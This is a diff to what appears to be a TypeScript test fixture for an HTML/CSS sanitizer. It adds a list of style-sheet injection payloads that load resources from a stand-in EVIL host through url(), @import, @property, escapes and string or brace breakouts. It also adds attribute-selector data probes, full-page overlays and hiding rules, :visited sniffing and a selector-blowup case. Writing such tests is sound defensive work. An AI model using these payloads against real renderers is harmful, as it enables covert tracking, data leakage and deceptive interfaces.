@@ -251,6 +251,106 @@ const STYLES: readonly Row[] = [
   [51, 'request', '<style>p::before { content: url(EVIL/content) }</style><p>x</p>'],
 ];
 
+/** A style sheet of the letter's own: each way to load, to leave the letter's box, and to break out of what is kept. */
+const SHEETS: readonly Row[] = [
+  [44, 'request', '<style>p { background: red url(EVIL/important) !important }</style><p>x</p>'],
+  [44, 'request', '<style>@media screen { p { background: url(EVIL/media) } }</style><p>x</p>'],
+  [44, 'request', '<style media="all">@supports (color: red) { p { background: url(EVIL/supports) } }</style><p>x</p>'],
+  [44, 'request', '<style>@layer a { p { background: url(EVIL/layer) } }</style><p>x</p>'],
+  [44, 'request', '<style>@scope (div) { p { background: url(EVIL/scope) } }</style><div><p>x</p></div>'],
+  [44, 'request', '<style>div { & p { background: url(EVIL/nested) } }</style><div><p>x</p></div>'],
+  [44, 'request', '<style>div { color: red; @media all { background: url(EVIL/nestedmedia) } }</style><div>x</div>'],
+  [
+    44,
+    'request',
+    '<style>div { container-type: inline-size } @container (width > 1px) { p { background: url(EVIL/container) } }</style><div><p>x</p></div>',
+  ],
+  [
+    44,
+    'request',
+    '<style>@starting-style { p { background: url(EVIL/starting) } } p { transition: background 1s; background: url(EVIL/started) }</style><p>x</p>',
+  ],
+  [44, 'request', '<style>p { mask: url(EVIL/mask); -webkit-mask-image: url(EVIL/wmask) }</style><p>x</p>'],
+  [44, 'nothing', '<style>p { filter: url(EVIL/filter#f) }</style><p>x</p>'],
+  [44, 'request', '<style>p { background: -webkit-cross-fade(url(EVIL/fade1), url(EVIL/fade2), 50%) }</style><p>x</p>'],
+  [44, 'request', '<style>p::first-line { background: url(EVIL/line) }</style><p>x</p>'],
+  [44, 'request', '<style>li::marker { content: url(EVIL/marker) }</style><ul><li>x</ul>'],
+  [
+    44,
+    'request',
+    '<style>@counter-style c { system: cyclic; symbols: "x" } ul { list-style: c url(EVIL/counter) }</style><ul><li>x</ul>',
+  ],
+  [44, 'nothing', '<style>p { background: image("EVIL/image") } p { background: paint(x) }</style><p>x</p>'],
+  [46, 'request', '<style>@import url(EVIL/layered.css) layer(x) screen;</style>'],
+  [46, 'request', '<style>@charset "utf-8"; @import "EVIL/second.css"; p { color: red }</style><p>x</p>'],
+  [46, 'nothing', '<style>@namespace url(EVIL/namespace);</style><p>x</p>'],
+  [47, 'request', '<style>:root { --u: url(EVIL/rootvar) } p { background: var(--u) }</style><p>x</p>'],
+  [
+    47,
+    'request',
+    '<style>@property --v { syntax: "<image>"; inherits: true; initial-value: url(EVIL/property) } p { background: var(--v) }</style><p>x</p>',
+  ],
+  [48, 'request', '<style>p { b\\61 ckground: \\75\\72\\6c(EVIL/sheetescape) }</style><p>x</p>'],
+  [48, 'request', '<style>p { background:/**/url(/*x*/EVIL/no),/**/url(EVIL/sheetcomment) }</style><p>x</p>'],
+  [48, 'request', '<style>p { background: url(EVIL/unclosed</style><p>x</p>'],
+  [48, 'request', '<style>p { font-family: "x\n} * { background: url(EVIL/badstring) }</style><p>x</p>'],
+  [
+    48,
+    'request',
+    '<style>p { font-family: "} * {" } </style><style>} p { background: url(EVIL/next) }</style><style>p { background: url(EVIL/third) }</style><p>x</p>',
+  ],
+  [48, 'request', '<style>.a\\{\\}\\*\\{x, p { background: url(EVIL/escapedbrace) }</style><p>x</p>'],
+  [
+    48,
+    'request',
+    '<style>[class="} p {background: url(EVIL/attr) }"] { color: red } p { background: url(EVIL/attr2) }</style><p class="} p {background: url(EVIL/attr3) }">x</p>',
+  ],
+  [
+    49,
+    'request',
+    '<style>a[href*="secret"] { background: url(EVIL/href) }</style><a href="https://a.example/secret">x</a>',
+  ],
+  [49, 'request', '<style>p:has(b) { background: url(EVIL/hasb) }</style><p><b>x</b></p>'],
+  [
+    49,
+    'request',
+    '<style>@media (min-width: 10px) and (prefers-color-scheme: light) { body { background: url(EVIL/scheme) } }</style>',
+  ],
+  [49, 'request', '<style>p:hover { background: url(EVIL/hover) }</style><p>CLICK</p>'],
+  [52, 'overlay', '<style>* { position: fixed !important; inset: 0; z-index: 9999 }</style><p>x</p>'],
+  [
+    52,
+    'overlay',
+    '<style>.x { position: sticky; top: 0; margin-top: -2000px; height: 9999px; z-index: 9999 }</style><div class=x>x</div>',
+  ],
+  [
+    52,
+    'overlay',
+    '<style>@media all { .x { position: absolute; top: 0; left: 0; width: 9999px; height: 9999px; z-index: 9999 } }</style><div class=x>x</div>',
+  ],
+  [53, 'overlay', '<style>html, body { margin-top: -900px !important }</style><p>x</p>'],
+  [54, 'overlay', '<style>html { display: none }</style>'],
+  [54, 'overlay', '<style>:root, :host, body:not(.x) { visibility: hidden !important }</style>'],
+  [54, 'overlay', '<style>header, :is(#toolbar), #archive:not(.x) { display: none !important }</style>'],
+  [54, 'overlay', '<style>p, header { display: none } </style><p>x</p>'],
+  [54, 'overlay', '<style>body * { display: none !important }</style>'],
+  [
+    56,
+    'motion',
+    '<style>@keyframes s { to { letter-spacing: 9px } } .x { animation: s 1s infinite alternate !important }</style><p class=x>x</p>',
+  ],
+  [
+    57,
+    'nothing',
+    '<style>a:visited { color: red !important } a:link { color: blue }</style><a href="http://127.0.0.1/">x</a>',
+  ],
+  [
+    83,
+    'nothing',
+    `<style>${'.a '.repeat(300)}{ color: red } ${'p:nth-child(2n+1) ~ p, '.repeat(3_000)} p { color: red }</style><p>x</p>`,
+  ],
+];
+
 const DECEPTIONS: readonly Row[] = [
   [52, 'overlay', '<div style="position: fixed; inset: 0; z-index: 9999; background: red">x</div>'],
   [
@@ -345,7 +445,7 @@ const DOM: readonly Row[] = [
   ],
 ];
 
-const GROUPS = [SCRIPTS, ADDRESSES, FRAMES, HEADS, FORMS, VECTORS, MUTATIONS, STYLES, DECEPTIONS, TRACKERS];
+const GROUPS = [SCRIPTS, ADDRESSES, FRAMES, HEADS, FORMS, VECTORS, MUTATIONS, STYLES, SHEETS, DECEPTIONS, TRACKERS];
 
 export const PAYLOADS: readonly Payload[] = [...GROUPS, PARTS_AND_TEXT, DOM]
   .flat()
